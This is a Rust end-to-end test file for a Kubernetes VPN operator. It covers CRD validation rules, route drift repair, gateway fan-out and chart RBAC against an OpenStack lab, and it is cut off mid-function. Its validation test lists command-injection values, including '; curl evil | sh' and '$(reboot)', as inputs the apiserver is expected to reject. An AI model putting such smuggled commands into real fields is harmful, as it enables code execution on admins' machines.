//! End to end: the real operator binary against a real kube-apiserver (lab/kube) and the
//! real Keystone + ML2/OVN Neutron of the lab (lab/openstack/ovn.sh), driven through the
//! Kubernetes API.
//!
//! One file although it passes 500 lines: every test shares one apiserver, one operator
//! process per test and the lock and sweep that keep them apart.

use std::process::Stdio;

use bnerd_api::ClusterLink;
use bnerd_api::names::{FINALIZER, tag_link_uid};
use bnerd_cloud::{Neutron, Route};
use bnerd_testkit::kube_lab::{install_crd, kube_client};
use bnerd_testkit::operator_proc::{
    OperatorCommand, OperatorProcess, TEST_LABEL, create_cross_tenant, create_ready,
    delete_and_wait_gone, delete_credentials_secret, event_about, install_gateway_crds, is_ready,
    kube_lab_exclusive, put_credentials_secret, sweep_leftovers, test_link, wait_for, wait_gone,
};
use bnerd_testkit::{Env, ovn_env_for, ovn_lab_or_skip, unique};
use kube::Client;
use kube::api::{
    Api, ApiResource, DeleteParams, DynamicObject, ListParams, Patch, PatchParams, PostParams,
};
use serde_json::json;

fn link(name: &str, spec: serde_json::Value) -> ClusterLink {
    test_link(name, spec)
}

/// The note of the `DriftRepaired` Warning on link `name` that contains `missing`.
async fn drift_event(client: &Client, name: &str, missing: &str) -> String {
    let events: Api<k8s_openapi::api::events::v1::Event> =
        Api::namespaced(client.clone(), "default");
    let mut seen = vec![];
    for _ in 0..60 {
        if let Ok(list) = events.list(&ListParams::default()).await {
            seen = list
                .items
                .into_iter()
                .filter(|e| e.regarding.as_ref().and_then(|r| r.name.as_deref()) == Some(name))
                .map(|e| {
                    (
                        e.type_.unwrap_or_default(),
                        e.reason.unwrap_or_default(),
                        e.note.unwrap_or_default(),
                    )
                })
                .collect();
            if let Some((_, _, note)) = seen
                .iter()
                .find(|(t, r, n)| t == "Warning" && r == "DriftRepaired" && n.contains(missing))
            {
                return note.clone();
            }
        }
        tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    }
    panic!("no DriftRepaired Warning on {name} naming {missing:?} in 30 s; its Events: {seen:#?}");
}

/// The cargo-built operator on the lab's settings and `env`'s fabric.
fn spawn_operator(
    kubeconfig: &str,
    lab: &std::collections::BTreeMap<String, String>,
    env: &Env,
    resync: &str,
) -> OperatorProcess {
    OperatorCommand::new(env!("CARGO_BIN_EXE_bnerd-vpn-operator"))
        .lab(
            kubeconfig,
            lab,
            &env.fabric.gateway_router_id,
            &env.fabric.transit_network_id,
            resync,
        )
        .spawn()
}

fn rejection(e: kube::Error) -> String {
    match e {
        kube::Error::Api(s) => {
            assert_eq!(s.code, 422, "{s:?}");
            s.message
        }
        other => panic!("expected a 422 from the apiserver, got {other}"),
    }
}

#[tokio::test]
async fn cel_rules_enforced_by_the_apiserver() {
    let Some((client, kubeconfig)) = kube_client("cel_rules_enforced_by_the_apiserver").await
    else {
        return;
    };
    let _exclusive = kube_lab_exclusive(&kubeconfig).await;
    const P1: &str = "0123456789abcdef0123456789abcdef";
    const P2: &str = "c0ffee00-1111-4222-8333-444455556666";
    install_crd(&client).await;
    let api: Api<ClusterLink> = Api::all(client.clone());
    let pp = PostParams {
        dry_run: true,
        ..Default::default()
    };
    let name = unique("cel");
    let same = json!({"serviceClusterRouter": "r", "serviceClusterCIDR": "10.251.0.0/16"});
    let cross = |p: Option<&str>| {
        let mut s = json!({"serviceClusterRouter": "r", "serviceClusterCIDR": "10.234.0.0/16",
            "credentialsSecretRef": {"name": format!("clusterlink-{name}"), "namespace": "bnerd-vpn-clusterlinks"}});
        if let Some(p) = p {
            s["customerProjectID"] = json!(p);
        }
        s
    };
    // Valid objects are accepted.
    api.create(&pp, &link(&name, same.clone()))
        .await
        .expect("same-tenant accepted");
    // customerProjectID is a Keystone project ID (32 lowercase hex digits, or a UUID with
    // dashes) and nothing else: it reaches a command an admin pastes.
    api.create(&pp, &link(&name, cross(Some(P2))))
        .await
        .expect("a UUID with dashes accepted");
    for bad in [
        "p1",
        "0123456789ABCDEF0123456789ABCDEF",
        "0123456789abcdef0123456789abcdef; curl evil | sh",
        "$(reboot)",
    ] {
        let msg = rejection(
            api.create(&pp, &link(&name, cross(Some(bad))))
                .await
                .unwrap_err(),
        );
        assert!(
            msg.contains("spec.customerProjectID")
                && msg.contains("customerProjectID must be a Keystone project ID: 32 lowercase hex digits, or a UUID with dashes"),
            "{bad:?}: {msg}"
        );
    }
    // Same-tenant with customerProjectID: rejected.
    let mut bad = same.clone();
    bad["customerProjectID"] = json!(P1);
    let msg = rejection(api.create(&pp, &link(&name, bad)).await.unwrap_err());
    assert!(
        msg.contains("customerProjectID may only be set on a cross-tenant link"),
        "{msg}"
    );

    // A live cross-tenant link (not dry-run, so updates have an old object).
    let live = api
        .create(&PostParams::default(), &link(&name, cross(Some(P1))))
        .await
        .expect("cross-tenant accepted");
    let upd = |spec: serde_json::Value| {
        let mut l = live.clone();
        l.spec = serde_json::from_value(spec).expect("spec");
        l
    };
    let dry = PostParams {
        dry_run: true,
        ..Default::default()
    };
    let msg = rejection(
        api.replace(&name, &dry, &upd(cross(Some(P2))))
            .await
            .unwrap_err(),
    );
    assert!(
        msg.contains("customerProjectID is immutable once set"),
        "{msg}"
    );
    let msg = rejection(
        api.replace(&name, &dry, &upd(cross(None)))
            .await
            .unwrap_err(),
    );
    assert!(
        msg.contains("customerProjectID is immutable once set"),
        "{msg}"
    );
    let msg = rejection(
        api.replace(&name, &dry, &upd(same.clone()))
            .await
            .unwrap_err(),
    );
    assert!(
        msg.contains("credentialsSecretRef cannot be set on or taken off an existing ClusterLink"),
        "{msg}"
    );
    api.replace(&name, &dry, &upd(cross(Some(P1))))
        .await
        .expect("unchanged update accepted");

    // Adding the ref to a live same-tenant link: rejected.
    let name2 = unique("cel");
    let live2 = api
        .create(&PostParams::default(), &link(&name2, same.clone()))
        .await
        .expect("create");
    let mut l2 = live2.clone();
    l2.spec = serde_json::from_value(cross(Some(P1))).expect("spec");
    let msg = rejection(api.replace(&name2, &dry, &l2).await.unwrap_err());
    assert!(msg.contains("cannot be set on or taken off"), "{msg}");
    for n in [&name, &name2] {
        // No operator runs in this test, so nothing holds a finalizer.
        api.delete(n, &DeleteParams::default())
            .await
            .expect("delete");
    }
}

/// spec.transitIsolation's enum and CEL rules 4 and 5 (docs/crd-reference.md, "CEL rules
/// (checked by the apiserver)") as the apiserver applies them.
#[tokio::test]
async fn transit_isolation_rules_enforced_by_the_apiserver() {
    let Some((client, kubeconfig)) =
        kube_client("transit_isolation_rules_enforced_by_the_apiserver").await
    else {
        return;
    };
    let _exclusive = kube_lab_exclusive(&kubeconfig).await;
    const P1: &str = "0123456789abcdef0123456789abcdef";
    const ONLY_CROSS_TENANT: &str =
        "transitIsolation is only for a cross-tenant link (one with credentialsSecretRef)";
    const IMMUTABLE: &str = "transitIsolation is immutable (absent is Shared): switching between Shared and PerCustomer is delete-and-recreate";
    install_crd(&client).await;
    let api: Api<ClusterLink> = Api::all(client.clone());
    let dry = PostParams {
        dry_run: true,
        ..Default::default()
    };
    let name = unique("celti");
    let same = |mode: Option<&str>| {
        let mut s = json!({"serviceClusterRouter": "r", "serviceClusterCIDR": "10.251.0.0/16"});
        if let Some(m) = mode {
            s["transitIsolation"] = json!(m);
        }
        s
    };
    let cross = |n: &str, mode: Option<&str>| {
        let mut s = json!({"serviceClusterRouter": "r", "serviceClusterCIDR": "10.234.0.0/16",
            "credentialsSecretRef": {"name": format!("clusterlink-{n}"), "namespace": "bnerd-vpn-clusterlinks"},
            "customerProjectID": P1});
        if let Some(m) = mode {
            s["transitIsolation"] = json!(m);
        }
        s
    };

    // Without credentialsSecretRef: refused, PerCustomer and Shared alike.
    for mode in ["PerCustomer", "Shared"] {
        let msg = rejection(
            api.create(&dry, &link(&name, same(Some(mode))))
                .await
                .unwrap_err(),
        );
        assert!(msg.contains(ONLY_CROSS_TENANT), "{mode}: {msg}");
    }
    // With it: accepted.
    for mode in [Some("PerCustomer"), Some("Shared"), None] {
        api.create(&dry, &link(&name, cross(&name, mode)))
            .await
            .unwrap_or_else(|e| panic!("cross-tenant with {mode:?} refused: {e}"));
    }
    // Another value: refused by the schema's enum, before any rule. So is an explicit null
    // (unlike the other optional fields): the enum does not list it.
    let untyped: Api<DynamicObject> =
        Api::all_with(client.clone(), &ApiResource::erase::<ClusterLink>(&()));
    for bad in [
        json!("perCustomer"),
        json!("Isolated"),
        json!(""),
        json!(null),
    ] {
        let mut spec = cross(&name, None);
        spec["transitIsolation"] = bad.clone();
        let obj: DynamicObject = serde_json::from_value(json!({
            "apiVersion": "ipsec.bnerd.net/v1alpha1", "kind": "ClusterLink",
            "metadata": {"name": name, "labels": {TEST_LABEL: "true"}},
            "spec": spec,
        }))
        .expect("object");
        let msg = rejection(untyped.create(&dry, &obj).await.unwrap_err());
        assert!(
            msg.contains("spec.transitIsolation")
                && msg.contains("supported values: \"Shared\", \"PerCustomer\""),
            "{bad:?}: {msg}"
        );
    }

    // Updates (not dry-run creates, so that the rule has an old object).
    let per_customer = api
        .create(
            &PostParams::default(),
            &link(&name, cross(&name, Some("PerCustomer"))),
        )
        .await
        .expect("a PerCustomer link");
    let name2 = unique("celti");
    let absent = api
        .create(&PostParams::default(), &link(&name2, cross(&name2, None)))
        .await
        .expect("a link without transitIsolation");
    let upd = |live: &ClusterLink, n: &str, mode: Option<&str>| {
        let mut l = live.clone();
        l.spec = serde_json::from_value(cross(n, mode)).expect("spec");
        l
    };
    for (live, n, to, allowed) in [
        (&per_customer, &name, Some("PerCustomer"), true),
        (&per_customer, &name, Some("Shared"), false),
        (&per_customer, &name, None, false),
        // Absent and Shared mean the same.
        (&absent, &name2, Some("Shared"), true),
        (&absent, &name2, None, true),
        (&absent, &name2, Some("PerCustomer"), false),
    ] {
        let got = api.replace(n, &dry, &upd(live, n, to)).await;
        let from = &live.spec.transit_isolation;
        match (got, allowed) {
            (Ok(_), true) => {}
            (Err(e), false) => {
                let msg = rejection(e);
                assert!(msg.contains(IMMUTABLE), "{from:?} -> {to:?}: {msg}");
            }
            (Ok(_), false) => panic!("{from:?} -> {to:?} was accepted"),
            (Err(e), true) => panic!("{from:?} -> {to:?} was refused: {e}"),
        }
    }
    // Shared, once set, is as fixed as PerCustomer.
    let shared = api
        .replace(
            &name2,
            &PostParams::default(),
            &upd(&absent, &name2, Some("Shared")),
        )
        .await
        .expect("absent -> Shared");
    let msg = rejection(
        api.replace(&name2, &dry, &upd(&shared, &name2, Some("PerCustomer")))
            .await
            .unwrap_err(),
    );
    assert!(msg.contains(IMMUTABLE), "{msg}");
    for n in [&name, &name2] {
        // No operator runs in this test, so nothing holds a finalizer.
        api.delete(n, &DeleteParams::default())
            .await
            .expect("delete");
    }
}

#[tokio::test]
async fn operator_binary_converges_heals_and_unwinds() {
    let Some((client, kubeconfig)) =
        kube_client("operator_binary_converges_heals_and_unwinds").await
    else {
        return;
    };
    let Some(lab) = ovn_lab_or_skip("operator_binary_converges_heals_and_unwinds") else {
        return;
    };
    install_crd(&client).await;
    let env = ovn_env_for("e2e").await.expect("lab");
    let svc = env.router("shoot--services--e2e").await;
    let g = |k: &str| lab.get(k).cloned().unwrap_or_default();

    let _exclusive = kube_lab_exclusive(&kubeconfig).await;
    sweep_leftovers(&client).await;
    let op = spawn_operator(&kubeconfig, &lab, &env, "3s");

    let api: Api<ClusterLink> = Api::all(client.clone());
    let name = unique("e2e-link");
    let l = create_ready(
        &api,
        &name,
        json!({"serviceClusterRouter": svc.name, "serviceClusterCIDR": "10.251.0.0/16"}),
        90,
    )
    .await;
    let st = l.status.clone().expect("status");
    assert_eq!(st.transit_ip.as_deref(), Some("10.254.0.3"));
    // The binary's defaults admit what earlier versions admitted: a link with a public CIDR
    // converges (the bounds are a recommended setting, docs/operations.md "CIDR bounds").
    // A router of its own: one router carries one link's leg on the transit subnet.
    let public_router = env.router("shoot--services--e2e-public").await;
    let public = unique("e2e-public");
    let p = create_ready(
        &api,
        &public,
        json!({"serviceClusterRouter": public_router.name, "serviceClusterCIDR": "198.51.100.0/24"}),
        60,
    )
    .await;
    let pst = p.status.clone().expect("status");
    let via = pst.transit_ip.clone().expect("transit IP");
    assert!(
        env.get_router(&env.fabric.gateway_router_id)
            .await
            .routes
            .contains(&Route::new("198.51.100.0/24", &via)),
        "the public CIDR is routed as before"
    );
    api.delete(&public, &DeleteParams::default())
        .await
        .expect("delete the public link");
    wait_for("the public link gone", 60, async || {
        api.get_opt(&public).await.ok()?.is_none().then_some(())
    })
    .await;
    assert!(
        l.metadata
            .finalizers
            .clone()
            .unwrap_or_default()
            .contains(&FINALIZER.to_string())
    );
    let uid = l.metadata.uid.clone().expect("uid");
    let port = env
        .net
        .get_port(st.leg_port_id.as_deref().expect("port id"))
        .await
        .expect("leg port exists");
    assert!(port.has_tag(&tag_link_uid(&uid)) && port.is_interface_of(&svc.id));
    let want = Route::new("10.251.0.0/16", "10.254.0.3");
    assert!(
        env.get_router(&env.fabric.gateway_router_id)
            .await
            .routes
            .contains(&want)
    );
    // Events for the cluster-scoped object land in `default`.
    let events: Api<k8s_openapi::api::events::v1::Event> =
        Api::namespaced(client.clone(), "default");
    let evs = wait_for("events", 30, async || {
        let list = events.list(&ListParams::default()).await.ok()?;
        let mine: Vec<(String, String, String)> = list
            .items
            .into_iter()
            .filter(|e| e.regarding.as_ref().and_then(|r| r.name.as_deref()) == Some(name.as_str()))
            .map(|e| {
                (
                    e.reason.unwrap_or_default(),
                    e.action.unwrap_or_default(),
                    e.note.unwrap_or_default(),
                )
            })
            .collect();
        mine.iter().any(|(r, _, _)| r == "Ready").then_some(mine)
    })
    .await;
    assert!(evs.iter().any(|(r, _, _)| r == "LegPortCreated"), "{evs:?}");
    // RouteInstalled and ReverseRoutesInstalled reach the same reason (Installed) in one
    // reconcile: each is its own Event (the condition type is the action), neither folded
    // into the other.
    for type_ in ["RouteInstalled", "ReverseRoutesInstalled"] {
        assert!(
            evs.iter().any(|(r, a, n)| r == "Installed"
                && a == type_
                && n.starts_with(&format!("{type_} True: "))),
            "no {type_} transition Event of its own: {evs:#?}"
        );
    }

    // Out-of-band removal of the route: restored by the periodic resync, and said so.
    env.net
        .remove_extraroutes(&env.fabric.gateway_router_id, std::slice::from_ref(&want))
        .await
        .expect("remove route");
    wait_for("route restored", 30, async || {
        env.get_router(&env.fabric.gateway_router_id)
            .await
            .routes
            .contains(&want)
            .then_some(())
    })
    .await;
    let note = drift_event(
        &client,
        &name,
        "the gateway route 10.251.0.0/16 via 10.254.0.3 was gone",
    )
    .await;
    assert!(
        note.contains("(seen 20") && note.contains("restored: "),
        "{note}"
    );

    // A reverse route removed out of band from the service router: restored, and said so.
    install_gateway_crds(&client).await;
    let ar = bnerd_vpn_operator::gateways::resource("IPsecGateway", "ipsecgateways");
    let gws: Api<kube::api::DynamicObject> = Api::namespaced_with(client.clone(), "default", &ar);
    let gw_name = unique("drift-gw");
    let reverse = Route::new("100.64.9.0/24", "10.254.0.251");
    // The gateway pod's port holds its portFixedIP.
    let gateway_pod = env.port_at_ip(&reverse.nexthop, "gateway-pod").await;
    let gateway: kube::api::DynamicObject = serde_json::from_value(json!({
        "apiVersion": "ipsec.bnerd.net/v1alpha1", "kind": "IPsecGateway",
        "metadata": {"name": gw_name, "namespace": "default", "labels": {TEST_LABEL: "true"}},
        "spec": {"reverseExposures": [{"name": "svc", "port": 443}]},
        "status": {"serviceCIDR": reverse.destination, "portFixedIP": reverse.nexthop}
    }))
    .expect("gateway");
    gws.patch(
        &gw_name,
        &PatchParams::apply("e2e").force(),
        &Patch::Apply(&gateway),
    )
    .await
    .expect("apply gateway");
    wait_for("reverse route installed", 30, async || {
        let l = api.get(&name).await.ok().filter(is_ready)?;
        (!reverse_routes_of(&l).is_empty()).then_some(())
    })
    .await;
    env.net
        .remove_extraroutes(&svc.id, std::slice::from_ref(&reverse))
        .await
        .expect("remove the reverse route");
    let note = drift_event(&client, &name, "reverse routes were gone from router").await;
    assert!(note.contains("100.64.9.0/24 via 10.254.0.251"), "{note}");
    gws.delete(&gw_name, &DeleteParams::default())
        .await
        .expect("delete gateway");
    wait_for("reverse route withdrawn", 30, async || {
        let l = api.get(&name).await.ok().filter(is_ready)?;
        reverse_routes_of(&l).is_empty().then_some(())
    })
    .await;

    // The leg port cannot be deleted on its own while attached (Neutron: 409, it belongs to
    // the router); detached out of band, Neutron deletes it: a new leg at the same address,
    // attached again, and one Warning naming the old port.
    let refused = env
        .net
        .delete_port(&port.id)
        .await
        .expect_err("an attached leg cannot be deleted directly");
    assert!(refused.to_string().contains("409"), "{refused}");
    env.net
        .remove_router_interface(&svc.id, &port.id)
        .await
        .expect("detach");
    let l = wait_for("a new leg", 60, async || {
        let l = api.get(&name).await.ok().filter(is_ready)?;
        (l.status.as_ref()?.leg_port_id.as_deref() != Some(port.id.as_str())).then_some(l)
    })
    .await;
    let st = l.status.clone().expect("status");
    assert_eq!(st.transit_ip.as_deref(), Some("10.254.0.3"));
    let new_leg = st.leg_port_id.clone().expect("port id");
    let note = drift_event(
        &client,
        &name,
        &format!("leg port {} at 10.254.0.3 was gone", port.id),
    )
    .await;
    assert!(
        note.contains(&new_leg),
        "the restored part names the new leg: {note}"
    );
    assert!(
        env.get_router(&env.fabric.gateway_router_id)
            .await
            .routes
            .contains(&want)
    );

    // Delete: the finalizer unwinds, the object goes, the cloud is clean.
    delete_and_wait_gone(&api, &name, 60).await;
    assert!(
        env.get_router(&env.fabric.gateway_router_id)
            .await
            .routes
            .is_empty()
    );
    env.net
        .delete_port(&gateway_pod.id)
        .await
        .expect("delete the gateway pod's port");
    let left = env.leg_ports().await;
    assert!(left.is_empty(), "leaked ports: {left:?}");

    let log = op.stop().await;
    assert!(
        !log.contains(&g("LAB_OPERATOR_PASSWORD")),
        "the operator logged its password"
    );
    assert!(log.contains("fabric checked"), "{log}");
    env.teardown(&[]).await;
}

#[tokio::test]
async fn operator_refuses_bad_settings_naming_them() {
    let bin = env!("CARGO_BIN_EXE_bnerd-vpn-operator");
    let out = tokio::process::Command::new(bin)
        .env_clear()
        .env("IPSEC_TRANSIT_NETWORK_ID", "n")
        .output()
        .await
        .expect("runs");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("IPSEC_GATEWAY_ROUTER_ID (--gateway-router-id) is not set"),
        "{err}"
    );
    let out = tokio::process::Command::new(bin)
        .env_clear()
        .env("IPSEC_TRANSIT_NETWORK_ID", "n")
        .env("IPSEC_GATEWAY_ROUTER_ID", "r")
        .output()
        .await
        .expect("runs");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("operator credential: OS_AUTH_URL is not set"),
        "{err}"
    );
}

fn reverse_routes_of(l: &ClusterLink) -> Vec<(String, String)> {
    l.status
        .as_ref()
        .map(|s| {
            s.reverse_routes
                .iter()
                .map(|r| (r.service_cidr.clone(), r.next_hop.clone()))
                .collect()
        })
        .unwrap_or_default()
}

/// The estate-wide fan-out (docs/crd-reference.md, "When a link is looked at again"): a
/// gateway gaining reverse exposures, losing them, or
/// being deleted re-triggers every ClusterLink at once. The resync interval is an hour here,
/// so only the gateway watch can make these routes appear and go.
#[tokio::test]
async fn gateway_changes_fan_out_to_every_link() {
    let test = "gateway_changes_fan_out_to_every_link";
    let Some((client, kubeconfig)) = kube_client(test).await else {
        return;
    };
    let Some(lab) = ovn_lab_or_skip(test) else {
        return;
    };
    install_crd(&client).await;
    install_gateway_crds(&client).await;
    let env = ovn_env_for("e2e-fanout").await.expect("lab");
    let routers = [env.router("fan-a").await, env.router("fan-b").await];
    let _exclusive = kube_lab_exclusive(&kubeconfig).await;
    sweep_leftovers(&client).await;
    let op = spawn_operator(&kubeconfig, &lab, &env, "1h");

    let links: Api<ClusterLink> = Api::all(client.clone());
    let names = [unique("fan-a"), unique("fan-b")];
    for (i, (name, r)) in names.iter().zip(&routers).enumerate() {
        links
            .create(
                &PostParams::default(),
                &link(
                    name,
                    json!({"serviceClusterRouter": r.id, "serviceClusterCIDR": format!("10.{}.0.0/16", 141 + i)}),
                ),
            )
            .await
            .expect("create link");
    }
    for name in &names {
        wait_for("links Ready", 90, async || {
            links.get(name).await.ok().filter(is_ready)
        })
        .await;
    }

    let ar = bnerd_vpn_operator::gateways::resource("IPsecGateway", "ipsecgateways");
    let gws: Api<kube::api::DynamicObject> = Api::namespaced_with(client.clone(), "default", &ar);
    let gw_name = unique("gw");
    let route = ("100.64.7.0/24".to_string(), "10.254.0.250".to_string());
    // The gateway pod's port holds its portFixedIP (teardown removes it).
    env.port_at_ip(&route.1, "gateway-pod").await;
    let gateway = |exposures: serde_json::Value| {
        serde_json::from_value::<kube::api::DynamicObject>(json!({
            "apiVersion": "ipsec.bnerd.net/v1alpha1", "kind": "IPsecGateway",
            "metadata": {"name": gw_name, "namespace": "default", "labels": {TEST_LABEL: "true"}},
            "spec": {"reverseExposures": exposures},
            "status": {"serviceCIDR": route.0, "portFixedIP": route.1}
        }))
        .expect("gateway")
    };
    let apply_gw = async |exposures: serde_json::Value| {
        gws.patch(
            &gw_name,
            &PatchParams::apply("e2e").force(),
            &Patch::Apply(&gateway(exposures)),
        )
        .await
        .expect("apply gateway");
    };
    let on_routers = async |present: bool| {
        for r in &routers {
            let want = Route::new(&route.0, &route.1);
            let has = env.get_router(&r.id).await.routes.contains(&want);
            if has != present {
                return None;
            }
        }
        for name in &names {
            let l = links.get(name).await.ok()?;
            if reverse_routes_of(&l).contains(&route) != present {
                return None;
            }
        }
        Some(())
    };

    // A gateway with exposures appears: both links get the reverse route.
    apply_gw(json!([{"name": "svc", "port": 443}])).await;
    wait_for("reverse routes on both routers", 30, async || {
        on_routers(true).await
    })
    .await;
    // Its last exposure goes: the routes go.
    apply_gw(json!([])).await;
    wait_for("reverse routes removed", 30, async || {
        on_routers(false).await
    })
    .await;
    // Exposures back, then the gateway is deleted: the routes go again.
    apply_gw(json!([{"name": "svc", "port": 443}])).await;
    wait_for("reverse routes back", 30, async || on_routers(true).await).await;
    gws.delete(&gw_name, &DeleteParams::default())
        .await
        .expect("delete gateway");
    wait_for("reverse routes gone with the gateway", 30, async || {
        on_routers(false).await
    })
    .await;

    // A gateway whose route cannot be installed hears it as a Warning on itself, carrying its
    // uid: `kubectl describe` finds an object's Events by uid and shows none without it.
    let bad_name = unique("bad-gw");
    let bad: kube::api::DynamicObject = serde_json::from_value(json!({
        "apiVersion": "ipsec.bnerd.net/v1alpha1", "kind": "IPsecGateway",
        "metadata": {"name": bad_name, "namespace": "default", "labels": {TEST_LABEL: "true"}},
        "spec": {"reverseExposures": [{"name": "svc", "port": 443}]},
        "status": {"serviceCIDR": "not-a-cidr", "portFixedIP": route.1}
    }))
    .expect("gateway");
    let bad = gws
        .patch(
            &bad_name,
            &PatchParams::apply("e2e").force(),
            &Patch::Apply(&bad),
        )
        .await
        .expect("apply the bad gateway");
    let warned = wait_for("ReverseRouteNotInstalled on the gateway", 30, async || {
        event_about(&client, "default", &bad_name, "ReverseRouteNotInstalled").await
    })
    .await;
    assert_eq!(warned.type_.as_deref(), Some("Warning"));
    let regarding = warned.regarding.expect("regarding");
    assert_eq!(regarding.kind.as_deref(), Some("IPsecGateway"));
    assert!(bad.metadata.uid.is_some());
    assert_eq!(
        regarding.uid, bad.metadata.uid,
        "the Event lacks the gateway's uid"
    );
    // The bad gateway fails ReverseRoutesInstalled on every link, never Ready: Ready is the
    // forward path. The failure has its own column, Event and metric, and Ready's message
    // names it.
    for name in &names {
        let l =
            wait_for("ReverseRoutesInstalled=False", 30, async || {
                links.get(name).await.ok().filter(|l| {
                    condition(l, "ReverseRoutesInstalled").is_some_and(|c| c.0 == "False")
                })
            })
            .await;
        let (s, _, m) = condition(&l, "Ready").expect("Ready");
        assert_eq!(s, "True", "{name}: {m}");
        assert!(m.contains("ReverseRoutesInstalled is False"), "{m}");
        let ev = wait_for("EnsureReverseRoutesFailed on the link", 30, async || {
            event_about(&client, "default", name, "EnsureReverseRoutesFailed").await
        })
        .await;
        assert_eq!(ev.type_.as_deref(), Some("Warning"));
    }
    // Both links, resync after resync (3 s), meet the same refused gateway: its owner is told
    // once, not once per link and reconcile (an Event series would count every publish).
    tokio::time::sleep(std::time::Duration::from_secs(8)).await;
    let warned = event_about(&client, "default", &bad_name, "ReverseRouteNotInstalled")
        .await
        .expect("the gateway's Warning");
    assert_eq!(
        warned.series.as_ref().map_or(1, |s| s.count),
        1,
        "the gateway's Warning was published more than once: {:?}",
        warned.series
    );
    let addr = op.served_address().await;
    let (_, metrics) = bnerd_testkit::operator_proc::http_get(&addr, "/metrics").await;
    assert!(
        bnerd_testkit::operator_proc::sum_of(&metrics, "bnerd_reverse_route_failures_total", &[])
            >= 2.0,
        "{metrics}"
    );
    for name in &names {
        let ready = format!(
            r#"bnerd_clusterlink_condition{{clusterlink="{name}",type="Ready",status="True"}}"#
        );
        assert_eq!(
            bnerd_testkit::operator_proc::sample(&metrics, &ready),
            Some(1.0),
            "{metrics}"
        );
    }
    let crd = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../charts/bnerd-vpn-operator/files/clusterlinks.ipsec.bnerd.net.yaml"
    ))
    .expect("crd");
    assert!(
        crd.contains(r#"jsonPath: .status.conditions[?(@.type=="ReverseRoutesInstalled")].status"#),
        "the Reverse Routes column"
    );
    gws.delete(&bad_name, &DeleteParams::default())
        .await
        .expect("delete the bad gateway");

    for name in &names {
        links
            .delete(name, &DeleteParams::default())
            .await
            .expect("delete link");
    }
    for name in &names {
        wait_for("links gone", 60, async || {
            matches!(links.get(name).await, Err(kube::Error::Api(s)) if s.code == 404).then_some(())
        })
        .await;
    }
    for r in &routers {
        assert!(env.get_router(&r.id).await.routes.is_empty());
        env.net.delete_router(&r.id).await.expect("router deleted");
    }
    let log = op.stop().await;
    assert!(
        log.contains("re-triggering every ClusterLink"),
        "the fan-out did not log: {log}"
    );
    env.teardown(&[]).await;
}

/// The chart's own RBAC, rendered by the real helm (lab/kube/build.sh), bound to the lab's
/// unprivileged user `operator-test` instead of the chart's ServiceAccount: the operator
/// binary then runs with exactly the permissions a Helm install grants it. Returns that
/// user's kubeconfig and the Lease the chart's Deployment names (`IPSEC_LEASE_NAME`): the
/// chart's Lease Role allows that one only, so the operator must elect on it.
async fn chart_rbac_kubeconfig(client: &Client, admin_kubeconfig: &str) -> (String, String) {
    use k8s_openapi::api::rbac::v1::{ClusterRole, ClusterRoleBinding, Role, RoleBinding, Subject};
    let root = concat!(env!("CARGO_MANIFEST_DIR"), "/../..");
    let built = std::process::Command::new("bash")
        .arg("lab/kube/build.sh")
        .current_dir(root)
        .stderr(Stdio::null())
        .output()
        .expect("lab/kube/build.sh");
    let helm = String::from_utf8_lossy(&built.stdout)
        .lines()
        .find_map(|l| l.strip_prefix("HELM_BIN=").map(str::to_string))
        .expect("HELM_BIN from lab/kube/build.sh");
    let rendered = std::process::Command::new(helm)
        .args([
            "template",
            "e2e",
            "charts/bnerd-vpn-operator",
            "-n",
            "bnerd-e2e",
        ])
        .args([
            "--set",
            "openstack.routerID=00000000-0000-0000-0000-000000000001",
            "--set",
            "openstack.transitNetworkID=00000000-0000-0000-0000-000000000002",
            "--set",
            "openstack.cloudsSecret=e2e-clouds",
        ])
        .current_dir(root)
        .output()
        .expect("helm template");
    assert!(
        rendered.status.success(),
        "{}",
        String::from_utf8_lossy(&rendered.stderr)
    );
    let user = vec![Subject {
        kind: "User".into(),
        name: "operator-test".into(),
        api_group: Some("rbac.authorization.k8s.io".into()),
        namespace: None,
    }];
    let ssa = PatchParams::apply("e2e").force();
    let text = String::from_utf8_lossy(&rendered.stdout).to_string();
    let mut lease = None;
    for doc in serde_yaml::Deserializer::from_str(&text) {
        let v: serde_json::Value = match serde::Deserialize::deserialize(doc) {
            Ok(v) => v,
            Err(_) => continue,
        };
        let name = v["metadata"]["name"]
            .as_str()
            .unwrap_or_default()
            .to_string();
        let ns = v["metadata"]["namespace"]
            .as_str()
            .unwrap_or_default()
            .to_string();
        match v["kind"].as_str() {
            Some("Deployment") => {
                lease = v["spec"]["template"]["spec"]["containers"][0]["env"]
                    .as_array()
                    .and_then(|env| env.iter().find(|e| e["name"] == "IPSEC_LEASE_NAME"))
                    .and_then(|e| e["value"].as_str())
                    .map(str::to_string);
            }
            Some("ClusterRole") => {
                let api: Api<ClusterRole> = Api::all(client.clone());
                api.patch(&name, &ssa, &Patch::Apply(&v))
                    .await
                    .expect("ClusterRole");
            }
            Some("ClusterRoleBinding") => {
                let mut b: ClusterRoleBinding = serde_json::from_value(v).expect("binding");
                b.subjects = Some(user.clone());
                let api: Api<ClusterRoleBinding> = Api::all(client.clone());
                api.patch(&name, &ssa, &Patch::Apply(&b))
                    .await
                    .expect("ClusterRoleBinding");
            }
            // Every Role: the credentials namespace's and the release namespace's (Leases).
            Some("Role") => {
                ensure_namespace(client, &ns).await;
                let api: Api<Role> = Api::namespaced(client.clone(), &ns);
                api.patch(&name, &ssa, &Patch::Apply(&v))
                    .await
                    .expect("Role");
            }
            Some("RoleBinding") => {
                let mut b: RoleBinding = serde_json::from_value(v).expect("binding");
                b.subjects = Some(user.clone());
                let api: Api<RoleBinding> = Api::namespaced(client.clone(), &ns);
                api.patch(&name, &ssa, &Patch::Apply(&b))
                    .await
                    .expect("RoleBinding");
            }
            _ => {}
        }
    }
    let lease = lease.expect("the chart's Deployment sets IPSEC_LEASE_NAME");
    // The chart's name is the same every run: a Lease that an earlier run's killed operator
    // still holds would keep this run's operator waiting until it runs out.
    let leases: Api<k8s_openapi::api::coordination::v1::Lease> =
        Api::namespaced(client.clone(), "bnerd-e2e");
    let _ = leases.delete(&lease, &DeleteParams::default()).await;
    let kubeconfig = std::path::Path::new(admin_kubeconfig)
        .with_file_name("kubeconfig-operator-test")
